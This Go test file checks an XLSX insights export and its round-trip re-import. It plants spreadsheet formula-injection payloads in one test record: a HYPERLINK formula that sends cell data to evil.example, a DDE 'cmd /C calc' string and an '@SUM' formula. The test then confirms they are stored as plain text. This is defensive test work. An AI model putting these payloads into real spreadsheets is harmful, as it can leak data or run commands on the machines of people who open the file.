package xlsx

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"canopy/app"
)

func TestInsightsSheet(t *testing.T) {
	ws := sampleWorkspace(t)
	hostile := &app.Insight{ID: "insight-hostile", Text: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Company: "+cmd|' /C calc'!A0",
		Person: "@SUM(1)", State: app.InsightNew, Items: []string{"item-7jq56ctg"}}
	if err := ws.Do(app.Create(hostile)); err != nil {
		t.Fatal(err)
	}
	f, data, _ := export(t, ws)
	rows, err := f.GetRows(SheetInsights, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], "|"); got != strings.Join(insightColumns, "|") {
		t.Errorf("header %s", got)
	}
	if len(rows)-1 != ws.Count(app.KindInsight) {
		t.Fatalf("%d rows for %d insights", len(rows)-1, ws.Count(app.KindInsight))
	}
	found := false
	for i, r := range rows[1:] {
		if r[0] != hostile.ID {
			continue
		}
		found = true
		for col, want := range map[int]string{2: hostile.Text, 3: hostile.Company, 4: hostile.Person} {
			cell, _ := excelize.CoordinatesToCellName(col, i+2)
			formula, _ := f.GetCellFormula(SheetInsights, cell)
			typ, _ := f.GetCellType(SheetInsights, cell)
			if r[col-1] != want || formula != "" || typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s = %q (formula %q, type %v), want the text %q", cell, r[col-1], formula, typ, want)
			}
		}
		if !strings.Contains(r[12], "Customers book a visit from open arrival windows") {
			t.Errorf("item titles %q", r[12])
		}
	}
	if !found {
		t.Fatal("the hostile insight has no row")
	}
	// The sheet imports back as what it came from.
	p, err := ReadInsights(bytes.NewReader(data), int64(len(data)), ws)
	if err != nil {
		t.Fatal(err)
	}
	if p.New != 0 || p.Invalid != 0 || p.Unchanged != ws.Count(app.KindInsight) || len(p.Notes) != 0 {
		t.Errorf("re-import: %s\n%s", p.Summary(), strings.Join(p.Lines(ws), "\n"))
	}
	// Into an empty workspace with the same items, every field comes back.
	other := sampleWorkspace(t)
	for _, in := range other.Insights() {
		if err := other.Do(app.Delete(app.KeyOf(in))); err != nil {
			t.Fatal(err)
		}
	}
	p, err = ReadInsights(bytes.NewReader(data), int64(len(data)), other)
	if err != nil {
		t.Fatal(err)
	}
	if p.New != ws.Count(app.KindInsight) || p.Invalid != 0 {
		t.Fatalf("into an empty workspace: %s\n%s", p.Summary(), strings.Join(p.Lines(other), "\n"))
	}
	if err := other.Do(p.Command()); err != nil {
		t.Fatal(err)
	}
	for _, want := range ws.Insights() {
		got, ok := other.Insight(want.ID)
		if !ok || got.Text != want.Text || got.Date != want.Date || got.Persona != want.Persona || got.Importance != want.Importance ||
			got.State != want.State || strings.Join(got.Items, ",") != strings.Join(want.Items, ",") ||
			strings.Join(got.Initiatives, ",") != strings.Join(want.Initiatives, ",") || strings.Join(got.Tags, ",") != strings.Join(want.Tags, ",") ||
			got.Company != want.Company || got.Person != want.Person || got.Link != want.Link || got.Source != want.Source || got.Segment != want.Segment {
			t.Errorf("round trip of %s:\n got %+v\nwant %+v", want.ID, got, want)
		}
	}
}
